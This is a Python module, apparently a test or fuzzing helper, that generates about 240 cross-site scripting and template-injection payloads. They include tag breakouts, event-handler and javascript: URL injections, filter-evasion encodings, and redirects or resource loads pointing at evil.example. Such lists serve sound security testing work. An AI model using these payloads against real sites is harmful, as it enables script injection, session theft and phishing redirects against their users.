"""Texts that run in a page which writes them down as they are: ways out of a value, times what then runs."""

from itertools import product

SMALL = 40
MARK = "window.hit=1"

WAYS_OUT = (
    "",
    '">',
    "'>",
    '"/>',
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</a></form>",
    '\\">',
)
RUNS = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg/onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<a href=javascript:{MARK}>x</a>",
    "<base href=//evil.example/>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<object data='data:text/html,<script>{MARK}</script>'></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<form action=javascript:{MARK}><button>x",
    f"<marquee onstart={MARK}>",
)
INSIDE_A_TAG = (
    f'" onfocus={MARK} autofocus="',
    f"' onfocus={MARK} autofocus='",
    f'" onmouseover="{MARK}',
    f"x onfocus={MARK} autofocus=",
    f'" style="background:url(javascript:{MARK})',
    f'" formaction="javascript:{MARK}',
    f"`onfocus={MARK}",
    '" srcdoc="&lt;script&gt;',
)
OTHERS = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "{{ config }}",
    "{{request.__class__}}",
    "+ADw-script+AD4-",
    "%3Cscript%3E",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "\u2028\u2029<script>",
    "\uff1cscript\uff1e",
    "<scr<script>ipt>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<script\n>{MARK}</script\n>",
    f"<script/x>{MARK}</script>",
    f"<img/src=x/onerror={MARK}>",
    f"<svg onload\n={MARK}>",
    f"<\x0bimg src=x onerror={MARK}>",
    "<!--<script>",
    "<!--[if gte IE 4]><script>",
    "<![CDATA[<script>]]>",
    "<?xml version='1.0'?>",
    "';" + MARK + "//",
    '";' + MARK + "//",
    "\\';" + MARK + "//",
    "</" + "x" * 60 + ">",
    "\u202e<script>",
)


def payloads(*, small: bool = False, longest: int = 10_000, spaces: bool = True) -> list[str]:
    """About 240 texts, or some of every kind; no longer than `longest` characters."""
    pairs = [out + run for out, run in product(WAYS_OUT, RUNS)]
    found = [*INSIDE_A_TAG, *pairs[:: 17 if small else 1], *OTHERS]
    fitting = [one for one in found if len(one) <= longest and (spaces or not any(c.isspace() for c in one))]
    return fitting[: SMALL + len(INSIDE_A_TAG)] if small else fitting
